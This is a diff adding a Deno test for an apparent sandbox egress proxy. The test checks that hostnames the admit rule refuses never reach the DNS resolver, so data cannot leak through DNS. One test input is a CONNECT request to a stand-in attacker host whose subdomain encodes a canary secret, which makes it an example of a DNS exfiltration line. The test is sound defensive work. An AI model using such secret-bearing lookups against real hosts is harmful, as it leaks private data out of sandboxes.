@@ -883,3 +883,26 @@ Deno.test({
     }
   },
 });
+
+Deno.test("startEgressProxy() never looks up a name the admit check refuses (no DNS exfiltration)", async () => {
+  const looked: string[] = [];
+  await withProxy({
+    resolve: (host) => {
+      looked.push(host);
+      return Promise.resolve(["198.51.100.9"]);
+    },
+    admit: (t) =>
+      t.host === "ok.test"
+        ? { allow: true, reason: "ok", ruleIds: [] }
+        : { allow: false, reason: "not allowed", ruleIds: ["sandbox/net"] },
+    judge: () => ({ allow: false, reason: "refused after lookup", ruleIds: ["late"] }),
+  }, async ({ port, events }) => {
+    const refused = await exchange(port, "CONNECT canary-secret-6b3f.attacker.example:443 HTTP/1.1\r\n\r\n");
+    assert.match(refused, /^HTTP\/1\.1 403 /);
+    const [e] = await events.wait(1);
+    assert.deepEqual([e!.allowed, e!.ruleIds, e!.addresses], [false, ["sandbox/net"], []]);
+    await exchange(port, "CONNECT ok.test:443 HTTP/1.1\r\n\r\n");
+    await events.wait(2);
+    assert.deepEqual(looked, ["ok.test"], "only the admitted name reached the resolver");
+  });
+});
